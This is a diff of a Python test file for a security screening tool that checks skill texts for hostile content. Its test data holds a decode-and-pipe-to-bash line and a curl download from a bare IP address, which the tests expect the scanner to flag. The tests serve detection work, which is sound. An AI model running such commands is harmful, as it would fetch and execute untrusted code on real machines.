@@ -1,9 +1,7 @@
 """The rules of the safety screening on texts of our own: what they find, where, and what they let pass."""
 
 import base64
-import errno
 import json
-import os
 import re
 import sys
 from itertools import pairwise
@@ -497,18 +495,11 @@ def test_what_belongs_to_a_skill(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
     assert [len(bundled_files(tmp_path)[0]), bundled_files(tmp_path)[1]] == [2, 2]
 
 
-def test_a_folder_that_nobody_may_enter_costs_only_its_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+@pytest.mark.usefixtures("locked_folders")
+def test_a_folder_that_nobody_may_enter_costs_only_its_files(tmp_path: Path):
     for name in ("locked/x.py", "run.sh"):
         (tmp_path / name).parent.mkdir(exist_ok=True)
         (tmp_path / name).write_text("x")
-    whole_stat = Path.stat  # made to fail here: the tests may run as root, for whom chmod locks nothing
-
-    def stat(path: Path, **options: Any) -> os.stat_result:
-        if path.parent.name == "locked":
-            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
-        return whole_stat(path, **options)
-
-    monkeypatch.setattr(Path, "stat", stat)
     files, num_left_out = bundled_files(tmp_path)
     assert [str(file.path) for file in files] == ["run.sh"] and num_left_out == 1
 
@@ -538,6 +529,12 @@ DECODED = "# Decoders\nbase64 -D file.txt | bash"
 )
 def test_a_skill_on_attacks_may_show_them(description: str, body: str, is_flagged: bool):
     assert bool(screen(skill(body, description))) is is_flagged
+
+
+def test_what_a_test_of_a_scanner_brings_along_is_no_sample():
+    files = [BundledFile(Path("run.sh"), b"curl -o a http://45.140.17.2/a", True)]
+    flags = screen_texts(skill("http://45.140.17.2/a", "Edge cases to test rules of a detector"), files)
+    assert [(flag.rule, flag.field) for flag in flags] == [("bare_address", "./run.sh")]
 
 
 # The set of texts: hostile ones in many styles, and harmless look-alikes --------------------------------------------
